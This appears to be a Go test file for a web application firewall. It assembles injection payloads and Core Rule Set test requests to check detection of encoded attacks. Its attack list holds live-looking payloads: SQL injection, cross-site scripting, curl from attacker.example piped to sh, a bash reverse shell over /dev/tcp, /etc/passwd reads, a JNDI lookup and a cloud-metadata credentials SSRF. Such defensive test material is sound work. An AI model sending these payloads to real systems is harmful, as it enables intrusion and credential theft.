package corpus

import (
	"fmt"
	"net/url"
	"slices"
	"strings"

	"weir/test/crs"
)

// attack is one payload of the matrix.
type attack struct {
	name, class, payload string
	basic                bool // one of those that are crossed with all that is basic
}

// attacks are injections such as a rule set knows when it sees them plain, so that a miss is one of decoding.
var attacks = []attack{
	{"union", "sql injection", `1' UNION SELECT username,password FROM users-- -`, true},
	{"tautology", "sql injection", `x' OR '1'='1' -- `, true},
	{"script", "cross-site scripting", `"><script>alert(document.cookie)</script>`, true},
	{"onerror", "cross-site scripting", `<img src=x onerror=alert(document.domain)>`, true},
	{"substitution", "command injection", `$(curl http://attacker.example/x|sh)`, true},
	{"shell", "command injection", `x; cat /etc/passwd; /bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`, true},
	{"traversal", "path traversal", `../../../../etc/passwd`, true},
	{"jndi", "jndi lookup", `${jndi:ldap://attacker.example/a}`, true},
	{"metadata", "ssrf", `http://169.254.169.254/latest/meta-data/iam/security-credentials/`, true},
	{"node", "code injection", `require('child_process').execSync('cat /etc/passwd')`, true},
}

// places are attacks of attacks.jsonl that are none wherever else they stand, with the reason.
var places = map[string]string{
	"A05": "the address of the event that it came by",
	"A08": "a header of tokens",
	"A29": "a document of GraphQL",
	"A32": "bytes, and no text",
	"A44": "bytes, and no text",
	"A50": "not found plain",
	"A58": "a bomb by its wrapping",
	"A65": "not found plain",
}

// tests are requests of the Core Rule Set's tests, one for each of some rules of its families of level 1, whose one
// argument is an attack that stock Coraza blocks.
var tests = strings.Fields(`
	930100-2 930110-8 930120-13
	931100-4
	932130-18 932130-26 932175-1 932230-36 932250-15 932260-28 932280-1 932330-1
	933100-40 933120-11 933160-24 933170-1 933180-17 933210-16
	934100-10 934150-1 934160-12 934190-14
	941110-2 941140-4 941160-13 941170-4 941240-2 941270-1 941280-1 941390-4 941400-1
	942151-8 942160-1 942170-4 942220-1 942230-7 942250-1 942270-1 942280-1 942290-2 942320-13 942350-5 942550-35
`)

// families are the classes of the Core Rule Set's families of rules; the others are about the protocol.
var families = map[string]string{
	"930": "path traversal", "931": "ssrf", "932": "command injection", "933": "code injection", "934": "code injection",
	"941": "cross-site scripting", "942": "sql injection", "944": "code injection",
}

// matrixAttacks returns the attacks above, those of attacks.jsonl, and those of the Core Rule Set's tests.
func matrixAttacks() ([]attack, error) {
	all := slices.Clone(attacks)
	cases, err := Attacks()
	if err != nil {
		return nil, err
	}
	seen := map[string]bool{}
	for _, a := range attacks {
		seen[a.payload] = true
	}
	for _, c := range cases {
		if c.Outside != "" || places[c.ID] != "" || seen[c.Payload] {
			continue
		}
		seen[c.Payload] = true
		all = append(all, attack{name: c.ID, class: c.Class, payload: c.Payload})
	}
	requests, err := crs.Load()
	if err != nil {
		return nil, err
	}
	for _, name := range tests {
		at := slices.IndexFunc(requests, func(r crs.Request) bool { return r.Name == name })
		if at < 0 {
			return nil, fmt.Errorf("the Core Rule Set has no test %s", name)
		}
		payload, err := argument(requests[at])
		if err != nil {
			return nil, fmt.Errorf("test %s: %w", name, err)
		}
		all = append(all, attack{name: name, class: families[name[:3]], payload: payload})
	}
	return all, nil
}

// argument is the value of a request's only argument.
func argument(r crs.Request) (string, error) {
	_, query, _ := strings.Cut(r.URI, "?")
	_, value, is := strings.Cut(query, "=")
	if !is || strings.Contains(query, "&") {
		return "", fmt.Errorf("%s has not one argument", r.URI)
	}
	return url.QueryUnescape(value)
}
